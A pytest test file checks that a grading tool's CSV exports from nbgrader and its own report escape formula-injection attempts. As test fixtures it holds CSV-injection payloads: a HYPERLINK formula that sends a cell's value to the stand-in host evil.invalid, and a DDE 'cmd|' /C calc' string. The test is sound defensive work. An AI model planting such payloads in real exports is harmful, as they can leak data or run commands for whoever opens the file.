"""Exports a spreadsheet cannot execute: ``nbgrader export`` (through the course's exporter) and
``reading-maths report``'s ``grades.csv``, on a gradebook whose students (as an LMS roster or a forged
exchange entry could name them) carry formulas, separators, quotes and control characters in their ids,
names and e-mails. Read back with Python's ``csv``: the columns are nbgrader's (and the report's), one row
per student, every field quoted, no cell starting a formula, each id recognisable.
"""

from __future__ import annotations

import csv

import pytest
from nbgrader.api import Gradebook
from test_autograde import generated_course, nbgrader, reading_maths

from reading_maths.reports.spreadsheet import FORMULA_START, NBGRADER_COLUMNS, cell

A = "notation"
HOSTILE = {  # id -> (first name, last name, e-mail)
    '=HYPERLINK("http://evil.invalid/?"&A1,"x")': ("=1+1", "+SUM(A1:A9)", "@evil"),
    "-2+3+cmd|' /C calc'!A0": ("\tTab", "\rReturn", "a,b@x"),
    "line\nbreak": ('say "hi"', "comma, separated", "x\r\ny"),
    "ada": ("Ada", "Lovelace", "ada@example.org"),
}


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    folder = generated_course(tmp_path_factory.mktemp("csv") / "course", A)
    with Gradebook(f"sqlite:///{folder / 'gradebook.db'}") as gb:
        for student, (first, last, email) in HOSTILE.items():
            gb.update_or_create_student(student, first_name=first, last_name=last, email=email)
    return folder


def check(path, columns: list[str], text_columns: list[str]) -> list[dict[str, str]]:
    raw = path.read_bytes().decode("utf-8")  # as written: read_text would turn \r\n into \n
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == columns
    assert len(rows) == 1 + len(HOSTILE) and all(len(r) == len(columns) for r in rows), rows
    assert raw.count("\r\n") == len(rows) and "\n" not in raw.replace("\r\n", ""), "one line per row"
    assert all(line.startswith('"') and line.endswith('"') for line in raw.split("\r\n")[:-1]), "every field quoted"
    found = [dict(zip(columns, r, strict=True)) for r in rows[1:]]
    for r in found:
        for column in text_columns:
            assert not r[column].startswith(FORMULA_START), (column, r[column])
    assert sorted(r["student_id"] for r in found) == sorted(cell(s) for s in HOSTILE)
    return found


@pytest.mark.slow
def test_nbgrader_export_is_quoted_and_inert(course, tmp_path):
    nbgrader(course, "export", "--to", str(tmp_path / "export.csv"), "--log-level=WARN")
    rows = check(tmp_path / "export.csv", NBGRADER_COLUMNS, ["student_id", "first_name", "last_name", "email"])
    assert {r["student_id"]: r["score"] for r in rows} == dict.fromkeys(map(cell, HOSTILE), "0")
    assert {r["first_name"] for r in rows} >= {"'=1+1", "'\\x09Tab", 'say "hi"'}


@pytest.mark.slow
def test_report_csv_is_quoted_and_inert(course, tmp_path):
    reading_maths(course, "report", A, "--out", str(tmp_path / "report"))
    rows = check(tmp_path / "report" / "grades.csv", ["student_id", "last_name", "first_name", "email", A, "total"],
                 ["student_id", "first_name", "last_name", "email"])
    assert next(r for r in rows if r["student_id"] == "line\\x0abreak")["email"] == "x\\x0d\\x0ay"


@pytest.mark.parametrize("value, shown", [("=1", "'=1"), ("-1.5", "-1.5"), ("-1+2", "'-1+2"), (2.50, "2.5"),
                                          ("@x", "'@x"), ("\tx", "'\\x09x"), ("plain", "plain"), (None, "")])
def test_cell(value, shown):
    assert cell(value) == shown
